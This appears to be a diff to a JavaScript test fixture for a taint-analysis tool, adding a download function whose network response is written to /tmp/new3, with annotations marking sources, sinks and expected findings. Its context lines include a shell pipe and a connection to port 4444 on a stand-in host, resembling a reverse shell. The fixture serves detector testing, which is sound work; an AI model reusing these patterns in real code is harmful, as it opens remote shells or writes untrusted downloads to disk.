@@ -142,3 +142,11 @@ function shell() {
   other.pipe(sh.stdin); //~ sink(exec.command) fshell2, finding(traced) fshell2
   net.connect(4444, "shell.collector.example").pipe(process.stdout); //~ ok
 }
+
+function download() {
+  http.get(U, (answer) => { //~ source(NETWORK) fdown
+    const file = fs.createWriteStream("/tmp/new3");
+    answer.pipe(file); //~ sink(file.write) fdown, finding(traced) fdown
+    answer.pipe(process.stdout); //~ ok
+  });
+}
